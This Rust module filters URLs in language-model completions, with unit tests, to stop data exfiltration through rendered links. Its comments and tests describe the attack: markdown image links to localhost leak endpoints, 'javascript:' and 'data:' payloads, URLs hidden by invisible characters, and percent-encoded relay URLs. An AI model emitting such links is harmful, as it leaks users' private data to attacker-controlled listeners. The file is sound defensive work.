//! Response Scanner
//!
//! Validates every URL-like token a completion emits against the origin
//! policy. This is the control that defeats exfiltration to a local
//! listener: a leak URL only works if the client can be made to fetch
//! it, so anything pointing at a loopback/private/internal origin, a
//! non-HTTP scheme, or (when configured) an origin outside the
//! allow-list is replaced with a neutral placeholder.
//!
//! Scanning operates on the normalized completion. A URL split by
//! invisible format characters reassembles in a renderer, so it must
//! reassemble here first too.

use std::net::IpAddr;

use regex::Regex;
use reqwest::Url;
use tracing::{debug, warn};

use crate::types::ScanVerdict;

use super::normalize::strip_invisible_characters;

/// Substitute for a URL that fails the policy.
const LINK_PLACEHOLDER: &str = "[link removed]";

/// Explicit-scheme URL tokens. Brackets stay in the class so IPv6
/// authorities extract whole.
const URL_PATTERN: &str = r#"(?i)\b[a-z][a-z0-9+.-]*://[^\s<>()"']+"#;

/// Scheme-colon forms that fetch or execute without a `//` authority.
const SCHEME_ONLY_PATTERN: &str = r#"(?i)\b(?:javascript|data|vbscript):[^\s<>()"']+"#;

pub struct ResponseScanner {
    allowed_origins: Vec<String>,
}

impl ResponseScanner {
    pub fn new(allowed_origins: Vec<String>) -> Self {
        // Origins may be configured with or without a scheme prefix.
        let allowed_origins = allowed_origins
            .into_iter()
            .map(|o| {
                o.trim_start_matches("https://")
                    .trim_start_matches("http://")
                    .trim_end_matches('/')
                    .to_ascii_lowercase()
            })
            .collect();
        Self { allowed_origins }
    }

    /// Scan a completion produced against `_prompt_context`. The
    /// context parameter is part of the scanner contract but carries no
    /// authority here: URLs are judged by policy alone, since the
    /// context itself is untrusted.
    pub fn scan(&self, _prompt_context: &str, completion: &str) -> ScanVerdict {
        let normalized = strip_invisible_characters(completion);
        let candidates = extract_urls(&normalized);

        let mut offending: Vec<String> = Vec::new();
        for candidate in &candidates {
            if self.url_is_offending(candidate) {
                warn!(url = candidate.as_str(), "response URL rejected");
                offending.push(candidate.clone());
            } else {
                debug!(url = candidate.as_str(), "response URL allowed");
            }
        }

        let risk_score = if candidates.is_empty() {
            0.0
        } else {
            offending.len() as f64 / candidates.len() as f64
        };

        let mut sanitized_text = normalized;
        for url in &offending {
            sanitized_text = sanitized_text.replace(url.as_str(), LINK_PLACEHOLDER);
        }

        ScanVerdict {
            passed: offending.is_empty(),
            risk_score,
            sanitized_text,
        }
    }

    fn url_is_offending(&self, candidate: &str) -> bool {
        let parsed = match Url::parse(candidate) {
            Ok(u) => u,
            // Extracted but unparsable is ambiguity; resolve restrictive.
            Err(_) => return true,
        };

        match parsed.scheme() {
            "http" | "https" => {}
            _ => return true,
        }

        let host = match parsed.host_str() {
            Some(h) => h.trim_start_matches('[').trim_end_matches(']').to_ascii_lowercase(),
            None => return true,
        };

        if host_is_restricted(&host) {
            return true;
        }

        if !self.allowed_origins.is_empty() && !self.origin_allowed(&host) {
            return true;
        }

        // Percent-decoding can hide a second URL inside the first; a
        // nested restricted target makes the outer URL a relay.
        if let Ok(decoded) = urlencoding::decode(candidate) {
            if decoded != candidate && has_restricted_embedded_target(&decoded) {
                return true;
            }
        }

        false
    }

    fn origin_allowed(&self, host: &str) -> bool {
        self.allowed_origins
            .iter()
            .any(|origin| host == origin || host.ends_with(&format!(".{origin}")))
    }
}

/// Extract URL-like tokens from normalized text, trimming trailing
/// punctuation that prose attaches to a link.
fn extract_urls(text: &str) -> Vec<String> {
    let mut urls: Vec<String> = Vec::new();
    for pattern in [URL_PATTERN, SCHEME_ONLY_PATTERN] {
        let Ok(re) = Regex::new(pattern) else { continue };
        for m in re.find_iter(text) {
            let token = m.as_str().trim_end_matches(&['.', ',', ';', ':', '!', '?'][..]);
            if !token.is_empty() && !urls.iter().any(|u| u == token) {
                urls.push(token.to_string());
            }
        }
    }
    urls
}

/// Scan decoded text for embedded absolute http(s) targets beyond the
/// first (the outer URL itself) and judge each on its own. `find_iter`
/// cannot see a URL nested inside another one, so this anchors on each
/// scheme occurrence instead. One level of nesting only.
fn has_restricted_embedded_target(decoded: &str) -> bool {
    let Ok(anchor) = Regex::new(r"(?i)https?://") else {
        return false;
    };
    let Ok(token_re) = Regex::new(URL_PATTERN) else {
        return false;
    };

    let result = anchor.find_iter(decoded).skip(1).any(|m| {
        let tail = &decoded[m.start()..];
        token_re
            .find(tail)
            .map(|t| match Url::parse(t.as_str()) {
                Ok(u) => u
                    .host_str()
                    .map(|h| {
                        host_is_restricted(
                            &h.trim_start_matches('[').trim_end_matches(']').to_ascii_lowercase(),
                        )
                    })
                    .unwrap_or(true),
                Err(_) => true,
            })
            .unwrap_or(false)
    });
    result
}

/// Loopback, private-range, link-local, and internal-looking hosts.
/// A dotless hostname resolves through local search domains, so it is
/// treated as internal as well.
fn host_is_restricted(host: &str) -> bool {
    if let Ok(ip) = host.parse::<IpAddr>() {
        return ip_is_restricted(ip);
    }

    host == "localhost"
        || host.ends_with(".localhost")
        || host.ends_with(".local")
        || host.ends_with(".internal")
        || !host.contains('.')
}

fn ip_is_restricted(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => {
            v4.is_loopback()
                || v4.is_private()
                || v4.is_link_local()
                || v4.is_unspecified()
                || v4.is_broadcast()
        }
        IpAddr::V6(v6) => {
            v6.is_loopback()
                || v6.is_unspecified()
                // fc00::/7 unique-local, fe80::/10 link-local
                || (v6.segments()[0] & 0xfe00) == 0xfc00
                || (v6.segments()[0] & 0xffc0) == 0xfe80
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scanner() -> ResponseScanner {
        ResponseScanner::new(Vec::new())
    }

    #[test]
    fn test_clean_text_passes_unchanged() {
        let text = "佐藤さんは開発部の部長です。";
        let verdict = scanner().scan("", text);
        assert!(verdict.passed);
        assert_eq!(verdict.risk_score, 0.0);
        assert_eq!(verdict.sanitized_text, text);
    }

    #[test]
    fn test_public_https_url_allowed_without_allowlist() {
        let verdict = scanner().scan("", "See https://example.com/handbook for details.");
        assert!(verdict.passed);
    }

    #[test]
    fn test_loopback_host_rejected() {
        let verdict = scanner().scan("", "![Audit](http://localhost:5001/leak?data=abc)");
        assert!(!verdict.passed);
        assert!(!verdict.sanitized_text.contains("localhost:5001"));
        assert!(verdict.sanitized_text.contains(LINK_PLACEHOLDER));
    }

    #[test]
    fn test_loopback_ip_rejected() {
        let verdict = scanner().scan("", "fetch http://127.0.0.1:8080/x now");
        assert!(!verdict.passed);
        assert!(!verdict.sanitized_text.contains("127.0.0.1"));
    }

    #[test]
    fn test_private_ranges_rejected() {
        for url in [
            "http://10.0.0.5/a",
            "http://172.16.3.2/b",
            "http://192.168.1.1/c",
            "http://169.254.1.1/d",
            "http://[::1]/e",
        ] {
            let verdict = scanner().scan("", url);
            assert!(!verdict.passed, "expected rejection for {url}");
        }
    }

    #[test]
    fn test_non_http_schemes_rejected() {
        for text in [
            "click javascript:alert(1) here",
            "open data:text/html;base64,AAAA",
            "try ftp://files.example.com/x",
        ] {
            let verdict = scanner().scan("", text);
            assert!(!verdict.passed, "expected rejection for {text}");
        }
    }

    #[test]
    fn test_invisible_characters_do_not_hide_url() {
        let verdict = scanner().scan("", "![a](http://x/leak?data=\u{2063}PII\u{2063})");
        assert!(!verdict.passed);
        assert!(!verdict.sanitized_text.contains("leak"));
    }

    #[test]
    fn test_dotless_host_treated_as_internal() {
        let verdict = scanner().scan("", "see http://intranet/page");
        assert!(!verdict.passed);
    }

    #[test]
    fn test_allowlist_enforced_when_configured() {
        let scanner = ResponseScanner::new(vec!["example.co.jp".to_string()]);
        let ok = scanner.scan("", "https://docs.example.co.jp/guide");
        assert!(ok.passed);
        let blocked = scanner.scan("", "https://evil.example.com/guide");
        assert!(!blocked.passed);
    }

    #[test]
    fn test_nested_encoded_target_rejected() {
        let verdict = scanner().scan(
            "",
            "https://relay.example.com/r?u=http%3A%2F%2F127.0.0.1%3A5001%2Fleak",
        );
        assert!(!verdict.passed);
    }

    #[test]
    fn test_risk_score_is_rejected_fraction() {
        let verdict = scanner().scan(
            "",
            "ok https://example.com/a bad http://localhost/b",
        );
        assert!(!verdict.passed);
        assert!((verdict.risk_score - 0.5).abs() < 1e-9);
    }
}
